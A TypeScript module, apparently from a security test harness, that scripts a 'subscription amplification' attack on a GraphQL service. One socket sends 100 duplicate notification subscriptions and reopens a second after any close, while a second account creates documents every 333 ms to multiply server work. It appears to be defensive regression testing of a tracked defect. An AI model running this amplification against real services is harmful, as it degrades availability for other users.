import { CREATE_DOCUMENT, mutate } from '../../world-api.js';
import type { Attack } from '../attack.js';
import { openProtocolSocket, type ProtocolSocket } from '../protocol-socket.js';
import { repeater } from '../repeat.js';
import { count, errorCodesOf, type Tally } from '../tally.js';

const SUBSCRIPTIONS = 100;
const DOCUMENTS_EVERY_MS = 333;

export const SUBSCRIPTION = `subscription {
  notificationAdded {
    id
    message
    actor { name }
    subject { __typename ... on Document { title project { name } } }
  }
}`;

/**
 * Issue 12, defect 1: one socket with 100 subscriptions, each notification resolved once per
 * subscription; a fellow member's documents make the notifications. A closed socket is opened
 * again a second later, as a hostile client would.
 */
export const subscriptionAmplification: Attack = {
  id: 'subscription-amplification',
  title: 'Subscription amplification',
  description: `one graphql-ws socket of the attacker with ${SUBSCRIPTIONS} \`subscribe\` frames of \`notificationAdded { id message actor { name } subject { ... on Document { title project { name } } } }\` (reopened 1 s after a close), while a fellow member of the attacker's project creates a document about every ${DOCUMENTS_EVERY_MS} ms`,
  async prepare(context) {
    const sent: Tally = {};
    const got: Tally = {};
    const notes: string[] = [];
    const loops = repeater((error) => count(got, `attacker error: ${String(error).slice(0, 80)}`));
    let socket: ProtocolSocket | undefined;

    const attackFromOneSocket = async () => {
      count(sent, 'sockets opened');
      socket = openProtocolSocket(context.socketUrl, {
        authorization: `Bearer ${context.attacker.token}`,
      });
      const current = socket;
      current.onMessage((message) => {
        if (message.type === 'next') {
          const codes = errorCodesOf((message.payload as { errors?: unknown } | undefined)?.errors);
          if (codes.length === 0) count(got, 'notifications delivered clean');
          for (const code of new Set(codes)) count(got, `notifications with ${code}`);
        } else if (message.type === 'error') {
          for (const code of new Set(errorCodesOf(message.payload))) {
            count(got, `subscribe refused ${code}`);
          }
        } else if (message.type === 'complete') {
          count(got, 'subscriptions completed by the server');
        }
      });
      if (await current.acknowledged) {
        for (let id = 1; id <= SUBSCRIPTIONS; id += 1) {
          current.send({ id: String(id), type: 'subscribe', payload: { query: SUBSCRIPTION } });
        }
        count(sent, 'subscribe frames', SUBSCRIPTIONS);
      }
      const closed = await Promise.race([current.closed, loopsStopped]);
      if (closed)
        count(got, `socket closed ${closed.code}${closed.reason ? ` ${closed.reason}` : ''}`);
      await loops.pause(1_000);
    };

    let markStopped: () => void = () => {};
    const loopsStopped = new Promise<undefined>(
      (resolve) => (markStopped = () => resolve(undefined)),
    );

    const createDocument = async () => {
      try {
        await mutate(context.gatewayUrl, context.fellowMember, CREATE_DOCUMENT, {
          input: {
            projectId: context.sharedProjectId,
            title: `Amplified ${Date.now()}`,
            body: { blocks: [{ type: 'paragraph', text: 'Fan-out bait.' }] },
            tags: ['abuse'],
          },
        });
        count(sent, 'documents created by the fellow member');
      } catch (error) {
        count(sent, 'createDocument calls that failed');
        notes.push(`createDocument failed: ${String(error).slice(0, 200)}`);
      }
    };

    return {
      begin() {
        loops.repeat(attackFromOneSocket);
        loops.repeat(createDocument, DOCUMENTS_EVERY_MS);
      },
      async stop() {
        markStopped();
        await loops.stop();
        await socket?.close();
        return { sent, got, notes: notes.slice(0, 3) };
      },
    };
  },
};
